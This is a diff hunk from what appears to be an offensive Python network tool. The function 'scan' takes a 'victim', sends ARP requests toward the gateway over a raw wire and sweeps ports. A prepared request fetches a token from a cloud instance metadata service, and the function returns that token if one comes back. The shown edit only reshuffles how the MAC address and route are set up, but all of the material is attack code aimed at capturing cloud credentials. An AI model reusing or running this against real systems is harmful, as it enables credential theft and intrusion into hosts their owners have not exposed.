@@ -21,8 +21,8 @@ REQUEST = f"GET {TOKEN} HTTP/1.1\r\nHost: {IMDS[0]}\r\nMetadata: true\r\n\r\n".e
 
 def scan(victim: str, ports: range) -> tuple[Counter[str], str]:
     """Return the statuses that came, and a token's answer if one did."""
-    wire = Wire(own()[0], victim)
-    via = wire.resolve(gateway(), time.monotonic() + 5)
+    mac, mine = own()
+    wire, via = Wire(mac, victim), Wire(mac, mine).resolve(gateway(), time.monotonic() + 5)
     seen: Counter[str] = Counter()
     for first in range(ports.start, ports.stop, AT_ONCE):
         wire.request_arp(gateway())
